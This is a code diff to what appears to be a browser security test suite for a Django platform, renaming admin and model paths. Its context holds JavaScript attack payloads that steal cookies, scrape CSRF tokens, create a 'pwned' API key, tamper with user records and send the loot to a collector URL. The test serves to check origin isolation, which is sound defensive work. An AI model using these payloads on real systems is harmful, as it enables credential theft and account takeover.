@@ -14,7 +14,7 @@ import pytest
 from django.contrib.auth import get_user_model
 from playwright.sync_api import expect
 
-from stage.models import ApiKey
+from core.models import ApiKey
 from stage.origins.preview_links import preview_token_mint
 from stage.services.apps import channel_rollback
 from tests.factories import UserFactory
@@ -33,11 +33,11 @@ const report = () => { new Image().src = COLLECT + "?d=" + encodeURIComponent(JS
 (async () => {
   try { out.cookie = document.cookie; } catch (e) { out.cookie = "ERR " + e.name; }
   try {
-    const form = await (await fetch(PLATFORM + "/admin/stage/apikey/add/", { credentials: "include" })).text();
+    const form = await (await fetch(PLATFORM + "/admin/core/apikey/add/", { credentials: "include" })).text();
     const csrf = (form.match(/name="csrfmiddlewaretoken" value="([^"]+)"/) || [])[1] || null;
     out.csrf = csrf;
     const body = new URLSearchParams({ csrfmiddlewaretoken: csrf, user: "1", name: "pwned", _save: "Save" });
-    const made = await fetch(PLATFORM + "/admin/stage/apikey/add/", { method: "POST", body, credentials: "include" });
+    const made = await fetch(PLATFORM + "/admin/core/apikey/add/", { method: "POST", body, credentials: "include" });
     out.key = ((await made.text()).match(/stg_[A-Za-z0-9_-]{20,}/) || [null])[0];
     const edit = PLATFORM + "/admin/auth/user/" + AUTHOR + "/change/";
     const page = await (await fetch(edit, { credentials: "include" })).text();
@@ -53,7 +53,7 @@ const report = () => { new Image().src = COLLECT + "?d=" + encodeURIComponent(JS
   try { document.cookie = "csrftoken=tossed; domain=localhost; path=/"; out.toss = "done"; }
   catch (e) { out.toss = "ERR " + e.name; }
   try {
-    const opened = window.open(PLATFORM + "/admin/stage/apikey/add/");
+    const opened = window.open(PLATFORM + "/admin/core/apikey/add/");
     out.opened = opened ? "window" : "null";
     if (opened) await new Promise((r) => setTimeout(r, 1500));
     try { out.adminTitle = opened && opened.document.title; } catch (e) { out.adminTitle = "ERR " + e.name; }
@@ -166,9 +166,9 @@ PREVIEW_ATTACK = """
 const out: Record<string, string> = {};
 try { out.cookie = document.cookie; } catch (e) { out.cookie = "ERR " + (e as Error).name; }
 try { out.storage = String(localStorage.length); } catch (e) { out.storage = "ERR " + (e as Error).name; }
-try { out.opened = window.open("%(platform)s/admin/stage/apikey/add/") ? "window" : "null"; }
+try { out.opened = window.open("%(platform)s/admin/core/apikey/add/") ? "window" : "null"; }
 catch (e) { out.opened = "ERR " + (e as Error).name; }
-fetch("%(platform)s/admin/stage/apikey/add/").then(() => { out.fetch = "ok"; }, (e) => { out.fetch = "ERR " + e.name; })
+fetch("%(platform)s/admin/core/apikey/add/").then(() => { out.fetch = "ok"; }, (e) => { out.fetch = "ERR " + e.name; })
   .finally(() => { location.href = "%(collect)s?d=" + encodeURIComponent(JSON.stringify(out)); });
 export default () => <p>preview</p>;
 """
